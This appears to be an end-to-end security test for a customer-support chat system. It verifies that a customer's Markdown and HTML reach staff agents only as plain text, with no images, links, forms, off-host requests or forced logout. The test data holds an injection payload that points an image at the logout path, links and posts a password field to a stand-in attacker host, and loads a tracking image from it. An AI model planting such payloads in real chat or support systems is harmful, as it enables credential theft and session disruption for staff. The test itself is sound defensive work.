"""What a customer writes is data in every staff view: no image, link or form comes out of
it, and nothing in it can log an agent out.

The controls: the customer's text is in the view as written (so the view did show it), the
browser's requests are recorded (and all go to this server), and the page's own logout does
log the agent out (so "still logged in" can fail)."""

from __future__ import annotations

from urllib.parse import urlparse

import httpx
import pytest

from tests.security.conftest import answered, bearer

pytestmark = pytest.mark.e2e
LONG = 60_000
HOSTILE = ("Ich möchte mit einem Mitarbeiter sprechen ![x](/logout) "
           "[Gutschein](https://evil.example/steal) <img src=https://evil.example/t.png> "
           "<form action=https://evil.example><input name=pw></form> **fett** # Titel")


def test_customer_markdown_and_html_render_as_plain_text_for_agents(proxied, browser):
    # The proxied server, and an address of the customer's own: the flood tests use up the
    # other server's per-address limit.
    target = proxied
    url = target["url"]
    started = answered(httpx.post(f"{url}/v1/chat", timeout=60, json={"message": HOSTILE},
                                  headers=bearer(target, **{"X-Forwarded-For": "192.0.2.45"})))
    assert started["ticket"] and started["route"] in ("escalate", "handoff"), started
    number = started["ticket"]
    # The attack reached the ticket as written: the agents' queue holds it unchanged.
    [ticket] = [t for t in httpx.get(f"{url}/v1/handoffs", headers=bearer(target, "agent"))
                .json() if t["number"] == number]
    assert ticket["transcript"][0]["text"] == HOSTILE

    context = browser.new_context(viewport={"width": 1300, "height": 1000}, locale="de-DE")
    requested: list[str] = []
    context.on("request", lambda r: requested.append(r.url))
    page = context.new_page()
    page.goto(url + "/staff/")
    page.fill("#name", "agent")
    page.fill("#password", target["logins"]["agent"])
    page.click("#login")
    page.wait_for_selector("#queue", timeout=LONG)
    page.locator("#queue label", has_text=number).click()
    page.wait_for_function("document.querySelector('#transcript').innerText.includes('evil')",
                           timeout=LONG)
    page.wait_for_timeout(1500)
    for view in ("#transcript", "#ticket-head"):
        assert page.locator(f"{view} img").count() == 0
        assert page.locator(f"{view} form, {view} input[name=pw]").count() == 0
        hrefs = page.eval_on_selector_all(f"{view} a", "els => els.map(e => e.href)")
        assert not [h for h in hrefs if "evil" in h or "logout" in h], hrefs
    shown = page.locator("#transcript").inner_text()
    assert "![x](/logout)" in shown and "<img src=https://evil.example/t.png>" in shown
    assert not [u for u in requested if "evil.example" in u or u.endswith("/logout")]
    # The recording works (the page's own requests are in it), and nothing left this host.
    here = urlparse(url).netloc
    assert any(urlparse(u).netloc == here for u in requested)
    assert not [u for u in requested if urlparse(u).scheme in ("http", "https")
                and urlparse(u).netloc != here]
    # Still logged in: a reload shows the staff page, not the login form.
    page.reload()
    page.wait_for_selector("#queue", timeout=LONG)
    assert "/login" not in page.url
    # The control: the page's own logout button (its form, with its token) does log out.
    page.click("#logout")
    page.click("#logout-confirm")
    page.wait_for_url("**/login", timeout=LONG)
    page.goto(url + "/staff/")
    page.wait_for_selector("#login", timeout=LONG)
    assert page.url.endswith("/login")
    context.close()
